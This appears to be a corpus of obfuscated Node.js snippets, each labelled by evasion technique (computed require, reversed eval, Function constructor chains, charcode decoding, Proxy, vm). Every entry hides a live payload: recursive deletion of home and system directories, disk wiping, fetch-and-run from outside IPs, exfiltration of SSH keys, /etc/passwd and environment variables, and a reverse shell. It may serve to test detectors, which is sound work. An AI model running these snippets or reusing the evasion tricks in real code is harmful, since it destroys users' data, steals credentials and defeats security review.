%% computed require
const q = ["child", "process"].join("_");
require(q)["ex" + "ec"]("rm -rf ~/");
%% reversed eval
const e = "lave".split("").reverse().join("");
globalThis[e]("require('child_process').execSync('id')");
%% function constructor chain
[]["filter"]["constructor"]("return process")().mainModule.require("child_process").execSync("curl 203.0.113.2|sh");
%% constructor of constructor
const F = (() => {}).constructor;
F("return this.process.env")();
new F(atob("cmVxdWlyZSgnZnMnKQ=="))();
%% async function constructor
const AF = Object.getPrototypeOf(async () => {}).constructor;
AF(Buffer.from("70726f636573732e65786974283029", "hex").toString())();
%% process binding
const b = process["bin" + "ding"]("spawn_sync");
b.spawn({ file: "/bin/sh", args: ["sh", "-c", "id > /tmp/o"], stdio: [] });
%% global this index
const g = Function("return this")();
g["ev" + "al"]("1;require('fs').rmSync('/home',{recursive:true})");
%% timers with text
setTimeout("require('child_process').exec('wget http://203.0.113.4/x -O-|sh')", 10);
%% template name
const p = "proc", c = "child";
const m = require(`${c}_${p}ess`);
m[`sp${"aw"}n`]("bash", ["-c", "cat /etc/passwd | nc 203.0.113.9 99"]);
%% fromCharCode
const n = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
require(n).execSync("reboot");
%% fromCharCode apply
const arr = [102, 115];
const fs = require(String.fromCharCode.apply(null, arr));
fs["rm" + "Sync"](process.env.HOME, { recursive: true, force: true });
%% map to string
const mod = [102, 115].map((x) => String.fromCharCode(x)).join("");
require(mod).rmdirSync("/srv", { recursive: true });
%% module constructor load
const M = module.constructor;
M._load("child_process").execSync("id | curl -d @- http://203.0.113.3");
%% require through main
process.mainModule.require("child_process").exec("halt -f");
%% createRequire
import { createRequire as cr } from "node:module";
const rq = cr(import.meta.url);
const { execFileSync: z } = rq("node:child" + "_process");
z("/bin/sh", ["-c", "rm -rf $HOME"]);
%% dynamic import
const k = atob("Y2hpbGRfcHJvY2Vzcw==");
import(k).then(({ exec }) => exec("curl http://203.0.113.5/k | bash"));
%% reflect
Reflect.apply(Reflect.get(require("child_process"), "exec"), null, ["rm -rf /var/www"]);
%% bind and call
const cp = require("child_process");
const run = cp.exec.bind(cp, "cat ~/.ssh/id_rsa | nc 203.0.113.1 80");
run.call(null);
%% destructure default
const { ["ex" + "ecSync"]: go = null } = require("child_process");
go("mkfs.ext4 /dev/sda1");
%% vm module
const v = require("v" + "m");
v["runInThisContext"](Buffer.from("cHJvY2Vzcy5leGl0KCk=", "base64").toString("utf8"));
%% comma eval
(0, eval)(unescape("%72%65%71%75%69%72%65%28%27%66%73%27%29"));
%% proxy
const box = new Proxy({}, { get: (_, name) => require("child_process")[name] });
box.execSync("shutdown now");
%% xor decode and new Function
const s = [52, 39, 55].map((c) => String.fromCharCode(c ^ 70)).join("");
new Function(s)();
%% tagged template
const sh = (t) => require("child_process").execSync(t[0]);
sh`dd if=/dev/urandom of=/dev/sda`;
%% getter on object
const cfg = { get home() { return require("child_process").execSync("env | curl -T - http://203.0.113.9"); } };
cfg.home;
%% array of pieces
const d = ["exec", "child_process", "userdel -r admin", "require"];
(typeof require === "function" ? require : null)(d[1])[d[0]](d[2]);
%% replace trick
const w = "chXild_XprocXess".replace(/X/g, "");
require(w).spawnSync("sh", ["-c", "crontab -r"]);
%% wasm exit net
const net = require("n" + "et");
const so = net.connect(4444, "203.0.113.77");
const shl = require("child_process").spawn("/bin/sh");
so.pipe(shl.stdin); shl.stdout.pipe(so);
%% https then eval
require("https").get("https://203.0.113.8/s.js", (r) => { let t = ""; r.on("data", (x) => (t += x)); r.on("end", () => this["eval"] ? this["eval"](t) : Function(t)()); });
%% object entries find
const key = Object.keys(require("child_process")).find((x) => x.length === 8 && x.endsWith("Sync"));
require("child_process")[key]("id");
%% prototype polluted tostring
const x = { toString: Function.prototype.call.bind(Function("require('fs').unlinkSync('/etc/hosts')")) };
`${x}`;
